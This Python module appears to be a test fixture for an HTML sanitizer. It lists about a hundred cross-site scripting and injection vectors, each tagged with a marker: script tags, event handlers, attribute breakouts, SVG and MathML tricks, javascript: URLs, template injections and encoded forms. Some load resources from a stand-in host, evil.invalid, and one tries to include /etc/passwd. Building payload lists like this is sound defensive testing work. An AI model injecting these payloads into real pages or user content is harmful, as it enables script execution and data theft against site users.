r"""A hundred ways to bring a script into a page, each of a kind of its own; what runs sets `__ran` or calls out."""

from __future__ import annotations

_TAGS = (
    "<script>__ran=1</script>",
    "<SCRIPT>__ran=1</SCRIPT>",
    "<scr<script>ipt>__ran=1</scr</script>ipt>",
    "<script src=//evil.invalid/stolen.js></script>",
    "<script/x>__ran=1</script/x>",
    "<script\n>__ran=1</script\n>",
    "<script>__ran=1//",
    "<script type=module>__ran=1</script>",
    "<script>alert`1`</script>",
    "<script>/*<!--*/__ran=1//--></script>",
    "<noscript><p title='</noscript><img src=x onerror=__ran=1>'>",
    "<template><script>__ran=1</script></template>",
    "<link rel=stylesheet href=//evil.invalid/stolen.css>",
    "<link rel=prefetch href=//evil.invalid/stolen>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/stolen'>",
    "<meta http-equiv=refresh content='0;url=javascript:__ran=1'>",
    "<base href=//evil.invalid/stolen/>",
    "<iframe src=javascript:__ran=1></iframe>",
    "<iframe src=//evil.invalid/stolen></iframe>",
    "<iframe srcdoc='<script>parent.__ran=1</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;parent.__ran=1&lt;/script&gt;></iframe>",
    "<object data=javascript:__ran=1></object>",
    "<object data='data:text/html,<script>parent.__ran=1</script>'></object>",
    "<embed src=javascript:__ran=1>",
    "<frameset onload=__ran=1><frame src=//evil.invalid/stolen></frameset>",
)
_HANDLERS = (
    "<img src=x onerror=__ran=1>",
    "<img src=//evil.invalid/stolen.png>",
    "<IMG SRC=x OnErRoR=__ran=1>",
    "<img/src=x/onerror=__ran=1>",
    "<img src=x onerror\n=\n__ran=1>",
    '<img src=x:x onerror="__ran=1">',
    "<img srcset='//evil.invalid/stolen 1x'>",
    "<body onload=__ran=1>",
    "<details open ontoggle=__ran=1><summary>x</summary></details>",
    "<input autofocus onfocus=__ran=1>",
    "<select autofocus onfocus=__ran=1></select>",
    "<textarea autofocus onfocus=__ran=1></textarea>",
    "<video src=x onerror=__ran=1></video>",
    "<audio><source src=x onerror=__ran=1></audio>",
    "<video poster=//evil.invalid/stolen></video>",
    "<marquee onstart=__ran=1>x</marquee>",
    "<div onpointerenter=__ran=1 style=position:fixed;inset:0>x</div>",
    "<p onanimationstart=__ran=1 style=animation:x>x</p>",
    "<button popovertarget=x onbeforetoggle=__ran=1>x</button><p popover id=x>x",
)
_ATTRIBUTES = (
    '" onmouseover=__ran=1 x="',
    "' onmouseover=__ran=1 x='",
    '" autofocus onfocus=__ran=1 x="',
    "' autofocus onfocus=__ran=1 x='",
    "x onfocus=__ran=1 autofocus",
    '"><script>__ran=1</script>',
    "'><script>__ran=1</script>",
    '"/><img src=x onerror=__ran=1>',
    "` onmouseover=__ran=1 x=`",
    '" style="background:url(//evil.invalid/stolen)',
    '" formaction="javascript:__ran=1',
    '" href="javascript:__ran=1',
)
_CLOSING = (
    "</title><script>__ran=1</script>",
    "</textarea><script>__ran=1</script>",
    "</script><script>__ran=1</script>",
    "</style><script>__ran=1</script>",
    "--><script>__ran=1</script><!--",
    "]]><script>__ran=1</script>",
    "</pre></code></details><img src=x onerror=__ran=1>",
    "</option></select><img src=x onerror=__ran=1>",
    "</td></tr></table><img src=x onerror=__ran=1>",
    "<!--><img src=x onerror=__ran=1>-->",
)
_PICTURES = (
    "<svg onload=__ran=1>",
    "<svg><script>__ran=1</script></svg>",
    "<svg><a xlink:href=javascript:__ran=1><text>x</text></a></svg>",
    "<svg><animate onbegin=__ran=1 attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to=javascript:__ran=1></svg>",
    "<svg><image href=//evil.invalid/stolen></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.__ran=1</script>'></iframe></foreignObject></svg>",
    "</text></svg><script>__ran=1</script>",
    "<math><mtext><mglyph><style><img src=x onerror=__ran=1></style></mglyph></mtext></math>",
    "<math href=javascript:__ran=1>x</math>",
    "<svg><style><img src=x onerror=__ran=1></style></svg>",
    "$\\href{javascript:__ran=1}{x}$",
)
_ADDRESSES = (
    "javascript:__ran=1",
    "JaVaScRiPt:__ran=1",
    "java\tscript:__ran=1",
    "javascript://%0a__ran=1",
    "data:text/html,<script>parent.__ran=1</script>",
    "[x](javascript:__ran=1)",
    "![x](//evil.invalid/stolen)",
    "<javascript:__ran=1>",
    "[x]: javascript:__ran=1",
)
_TEMPLATES = (
    "{{ 7*7 }}{{ ''.__class__.__mro__ }}",
    "{% raw %}{% endraw %}{% include '/etc/passwd' %}",
    "${__ran=1}#{__ran=1}<%= __ran=1 %>",
    "{{constructor.constructor('__ran=1')()}}",
    '{"a":"</script><script>__ran=1</script>"}',
    "\\u003cscript\\u003e__ran=1\\u003c/script\\u003e",
)
_DISGUISED = (
    "&lt;script&gt;__ran=1&lt;/script&gt;",
    "&#60;script&#62;__ran=1&#60;/script&#62;",
    "\uff1cscript\uff1e__ran=1\uff1c/script\uff1e",
    "<\u200bscript>__ran=1</\u200bscript>",
    "\u202e<script>__ran=1</script>",
    "<style>@import '//evil.invalid/stolen';*{background:url(//evil.invalid/stolen)}</style>",
    "%3Cscript%3E__ran=1%3C/script%3E",
)
_ALL = (*_TAGS, *_HANDLERS, *_ATTRIBUTES, *_CLOSING, *_PICTURES, *_TEMPLATES, *_DISGUISED)


def mark(number: int) -> str:
    """Return the mark of a vector, by which it is found on a page."""
    return f"v{number:02d}"


VECTORS = (
    *(f"{text} {mark(n)}" if n % 2 else f"{mark(n)} {text}" for n, text in enumerate(_ALL)),
    *(f"{text}//{mark(len(_ALL) + n)}" for n, text in enumerate(_ADDRESSES)),
)
"""Each with its mark before it or behind it, in turns; addresses begin with themselves, as they must to be followed."""
